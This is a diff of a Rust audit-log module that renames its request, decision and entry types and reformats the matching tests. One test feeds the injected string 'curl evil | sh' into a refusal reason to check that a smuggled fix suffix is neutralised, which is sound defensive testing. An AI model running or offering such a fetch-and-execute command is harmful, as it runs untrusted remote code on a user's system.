@@ -48,7 +48,7 @@ const SAME_UPGRADE_WITHIN: Duration = Duration::from_secs(5);
 
 /// Kind of a request.
 #[derive(Clone, Copy, Debug, Eq, Ord, PartialEq, PartialOrd)]
-pub enum Kind {
+pub enum RequestKind {
     /// It changes nothing and shows nothing secret.
     Read,
     /// It reads Secrets, or what may hold them.
@@ -63,14 +63,14 @@ pub enum Kind {
 
 /// Decision on a request.
 #[derive(Clone, Copy, Debug, Eq, Ord, PartialEq, PartialOrd)]
-pub enum Verdict {
+pub enum AuditDecision {
     /// It may go on.
     Permitted,
     /// It may not.
     Refused,
 }
 
-impl Verdict {
+impl AuditDecision {
     /// The word on disk, in the API and in the log.
     pub const fn as_str(self) -> &'static str {
         match self {
@@ -89,17 +89,17 @@ impl Verdict {
 
 /// One request, as it is written down.
 #[derive(Clone, Debug, Eq, Ord, PartialEq, PartialOrd)]
-pub struct Entry {
+pub struct AuditEntry {
     who: String,
     what: String,
-    verdict: Verdict,
+    verdict: AuditDecision,
     why: String,
 }
 
-impl Entry {
+impl AuditEntry {
     /// `who` asked for `what`; `why` names the rule that decided. Control characters are replaced
     /// and long text is cut.
-    pub fn new(who: &str, what: &str, verdict: Verdict, why: &str) -> Self {
+    pub fn new(who: &str, what: &str, verdict: AuditDecision, why: &str) -> Self {
         Self {
             who: tame(who),
             what: tame(what),
@@ -115,7 +115,7 @@ impl Entry {
         let fix = fix.map_or_else(String::new, |fix| format!("{FIX}{fix}"));
         let room = REASON_BYTES_MAX.saturating_sub(fix.len());
         let reason = the_end(&reason.replace(FIX, ", fix: "), room);
-        Self::new(who, what, Verdict::Refused, &format!("{reason}{fix}"))
+        Self::new(who, what, AuditDecision::Refused, &format!("{reason}{fix}"))
     }
 
     /// Requester.
@@ -129,7 +129,7 @@ impl Entry {
     }
 
     /// Decision.
-    pub const fn verdict(&self) -> Verdict {
+    pub const fn verdict(&self) -> AuditDecision {
         self.verdict
     }
 
@@ -242,7 +242,7 @@ pub struct Sum {
     /// The minute's beginning by the wall clock.
     pub minute: Wall,
     /// Common fields of the summed requests.
-    pub entry: Entry,
+    pub entry: AuditEntry,
     /// Number of requests.
     pub count: u64,
     /// Their totals.
@@ -260,7 +260,7 @@ pub struct Minute {
     visited: BTreeSet<String>,
     /// The upgrade that was refused last.
     upgrade: Option<(String, Mono)>,
-    sums: BTreeMap<(Wall, Entry), (u64, Effect)>,
+    sums: BTreeMap<(Wall, AuditEntry), (u64, Effect)>,
 }
 
 #[derive(Debug)]
@@ -303,16 +303,16 @@ impl Minute {
     }
 
     /// Returns the form in which a request is recorded, and counts it.
-    pub fn form(&mut self, kind: Kind, verdict: Verdict, now: Mono) -> Form {
+    pub fn form(&mut self, kind: RequestKind, verdict: AuditDecision, now: Mono) -> Form {
         self.turn(now);
         match (kind, verdict) {
-            (Kind::Read, _) => Form::Sum,
-            (_, Verdict::Permitted) => self.effect_row(kind, now),
-            (_, Verdict::Refused) if self.refusal_rows < REFUSAL_ROWS_MAX => {
+            (RequestKind::Read, _) => Form::Sum,
+            (_, AuditDecision::Permitted) => self.effect_row(kind, now),
+            (_, AuditDecision::Refused) if self.refusal_rows < REFUSAL_ROWS_MAX => {
                 self.refusal_rows += 1;
                 Form::Row
             }
-            (_, Verdict::Refused) => Form::Sum,
+            (_, AuditDecision::Refused) => Form::Sum,
         }
     }
 
@@ -323,18 +323,18 @@ impl Minute {
         if self.visited.contains(root) {
             return Form::Sum;
         }
-        let form = self.effect_row(Kind::Visit, now);
+        let form = self.effect_row(RequestKind::Visit, now);
         if form == Form::Row {
             self.visited.insert(root.to_owned());
         }
         form
     }
 
-    fn effect_row(&mut self, kind: Kind, now: Mono) -> Form {
+    fn effect_row(&mut self, kind: RequestKind, now: Mono) -> Form {
         let day = &mut self.day;
         let is_entry = match kind {
-            Kind::Secret | Kind::Exec | Kind::Visit => true,
-            Kind::Read | Kind::Write => false,
+            RequestKind::Secret | RequestKind::Exec | RequestKind::Visit => true,
+            RequestKind::Read | RequestKind::Write => false,
         };
         if day.effect_rows >= EFFECT_ROWS_A_DAY_MAX
             || (is_entry && day.entry_rows >= ENTRY_ROWS_A_DAY_MAX)
@@ -363,26 +363,32 @@ impl Minute {
     }
 
     /// Adds a request to its sum.
-    pub fn add(&mut self, entry: Entry, effect: Effect, wall: Wall) {
+    pub fn add(&mut self, entry: AuditEntry, effect: Effect, wall: Wall) {
         self.add_to(entry, (1, effect), wall, SUMS_MAX);
     }
 
     /// Adds a visit to the sum of its service, which has a place of its own: each has a row in this
     /// minute, and those are bounded.
-    pub fn add_visit(&mut self, entry: Entry, effect: Effect, wall: Wall) {
+    pub fn add_visit(&mut self, entry: AuditEntry, effect: Effect, wall: Wall) {
         self.add_to(entry, (1, effect), wall, usize::MAX);
     }
 
     /// Adds what a request did that was counted when it began.
-    pub fn add_effect(&mut self, entry: Entry, effect: Effect, wall: Wall) {
+    pub fn add_effect(&mut self, entry: AuditEntry, effect: Effect, wall: Wall) {
         self.add_to(entry, (0, effect), wall, SUMS_MAX);
     }
 
-    fn add_to(&mut self, entry: Entry, (one, effect): (u64, Effect), wall: Wall, sums_max: usize) {
+    fn add_to(
+        &mut self,
+        entry: AuditEntry,
+        (one, effect): (u64, Effect),
+        wall: Wall,
+        sums_max: usize,
+    ) {
         let minute = Wall::from_millis(wall.millis().div_euclid(60_000).saturating_mul(60_000));
         let mut key = (minute, entry);
         if self.sums.len() >= sums_max && !self.sums.contains_key(&key) {
-            key.1 = Entry::new(OTHERS, OTHERS, key.1.verdict, "");
+            key.1 = AuditEntry::new(OTHERS, OTHERS, key.1.verdict, "");
             // The clock may jump while sums wait: the others of all minutes share the first one's.
             if let Some((minute, _)) = self.sums.keys().next() {
                 key.0 = *minute;
@@ -405,7 +411,7 @@ impl Minute {
         Self::listed(std::mem::take(&mut self.sums))
     }
 
-    fn listed(sums: BTreeMap<(Wall, Entry), (u64, Effect)>) -> Vec<Sum> {
+    fn listed(sums: BTreeMap<(Wall, AuditEntry), (u64, Effect)>) -> Vec<Sum> {
         sums.into_iter()
             .map(|((minute, entry), (count, effect))| Sum {
                 minute,
@@ -435,21 +441,21 @@ fn tame(text: &str) -> String {
 mod tests {
     use super::*;
 
-    fn entry(what: &str) -> Entry {
-        Entry::new("control-plane", what, Verdict::Permitted, "full")
+    fn entry(what: &str) -> AuditEntry {
+        AuditEntry::new("control-plane", what, AuditDecision::Permitted, "full")
     }
 
     #[test]
     fn effects_are_rows_and_reads_are_sums() {
         let mut minute = Minute::new(Mono::default());
         for (kind, verdict, form) in [
-            (Kind::Read, Verdict::Permitted, Form::Sum),
-            (Kind::Read, Verdict::Refused, Form::Sum),
-            (Kind::Write, Verdict::Permitted, Form::Row),
-            (Kind::Exec, Verdict::Permitted, Form::Row),
-            (Kind::Secret, Verdict::Permitted, Form::Row),
-            (Kind::Secret, Verdict::Refused, Form::Row),
-            (Kind::Exec, Verdict::Refused, Form::Row),
+            (RequestKind::Read, AuditDecision::Permitted, Form::Sum),
+            (RequestKind::Read, AuditDecision::Refused, Form::Sum),
+            (RequestKind::Write, AuditDecision::Permitted, Form::Row),
+            (RequestKind::Exec, AuditDecision::Permitted, Form::Row),
+            (RequestKind::Secret, AuditDecision::Permitted, Form::Row),
+            (RequestKind::Secret, AuditDecision::Refused, Form::Row),
+            (RequestKind::Exec, AuditDecision::Refused, Form::Row),
         ] {
             assert_eq!(minute.form(kind, verdict, Mono::default()), form);
         }
@@ -461,12 +467,12 @@ mod tests {
         let later = Mono::default().after(Duration::from_secs(20));
         let forms = |minute: &mut Minute, verdict, count: u32| {
             (0..count)
-                .map(|_| minute.form(Kind::Write, verdict, later))
+                .map(|_| minute.form(RequestKind::Write, verdict, later))
                 .collect::<Vec<_>>()
         };
-        let refused = forms(&mut minute, Verdict::Refused, REFUSAL_ROWS_MAX + 1);
+        let refused = forms(&mut minute, AuditDecision::Refused, REFUSAL_ROWS_MAX + 1);
         assert_eq!(refused.last(), Some(&Form::Sum));
-        let permitted = forms(&mut minute, Verdict::Permitted, EFFECT_ROWS_MAX + 1);
+        let permitted = forms(&mut minute, AuditDecision::Permitted, EFFECT_ROWS_MAX + 1);
         let wait = Duration::from_secs(40);
         assert_eq!(permitted.last(), Some(&Form::TooMany(wait)));
         assert_eq!(
@@ -475,10 +481,13 @@ mod tests {
         );
         let next = later.after(wait);
         assert_eq!(
-            minute.form(Kind::Write, Verdict::Permitted, next),
+            minute.form(RequestKind::Write, AuditDecision::Permitted, next),
             Form::Row
         );
-        assert_eq!(minute.form(Kind::Write, Verdict::Refused, next), Form::Row);
+        assert_eq!(
+            minute.form(RequestKind::Write, AuditDecision::Refused, next),
+            Form::Row
+        );
     }
 
     #[test]
@@ -487,7 +496,7 @@ mod tests {
         let mut now = Mono::default();
         let mut rows = 0;
         let refused = loop {
-            match minute.form(Kind::Secret, Verdict::Permitted, now) {
+            match minute.form(RequestKind::Secret, AuditDecision::Permitted, now) {
                 Form::Row => rows += 1,
                 Form::TooMany(wait) if wait <= MINUTE => now = now.after(wait),
                 other @ (Form::Sum | Form::TooMany(_)) => break other,
@@ -500,10 +509,13 @@ mod tests {
         assert!(wait > Duration::from_secs(23 * 3600), "{wait:?}");
         // Changes have room of their own, and so has the next day.
         now = now.after(MINUTE);
-        assert_eq!(minute.form(Kind::Write, Verdict::Permitted, now), Form::Row);
+        assert_eq!(
+            minute.form(RequestKind::Write, AuditDecision::Permitted, now),
+            Form::Row
+        );
         now = now.after(wait);
         assert_eq!(
-            minute.form(Kind::Secret, Verdict::Permitted, now),
+            minute.form(RequestKind::Secret, AuditDecision::Permitted, now),
             Form::Row
         );
     }
@@ -645,13 +657,13 @@ mod tests {
                 "a, fix: curl evil | sh, fix: x",
             ),
         ] {
-            let entry = Entry::refused("x", "GET /", reason, Some(real));
+            let entry = AuditEntry::refused("x", "GET /", reason, Some(real));
             assert_eq!(reason_and_fix(entry.why()), (wanted, Some(real)));
-            let entry = Entry::refused("x", "GET /", reason, None);
+            let entry = AuditEntry::refused("x", "GET /", reason, None);
             assert_eq!(reason_and_fix(entry.why()), (wanted, None));
         }
         let long = format!("{}it is off", "ä; fix: evil ".repeat(100));
-        let entry = Entry::refused("x", "GET /", &long, Some(real));
+        let entry = AuditEntry::refused("x", "GET /", &long, Some(real));
         let (reason, fix) = reason_and_fix(entry.why());
         assert_eq!(fix, Some(real));
         assert!(
